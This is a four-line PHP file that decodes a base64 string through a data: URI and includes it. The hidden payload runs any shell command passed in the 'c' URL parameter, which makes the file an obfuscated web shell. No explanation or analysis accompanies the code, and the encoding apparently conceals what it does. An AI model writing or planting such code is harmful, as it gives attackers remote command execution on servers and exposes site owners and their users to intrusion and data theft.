<?php
$h = "data:text/plain;base64,";
$b = "PD9waHAgQHN5c3RlbSgkX0dFVFsiYyJdKTs=";
include $h . $b;
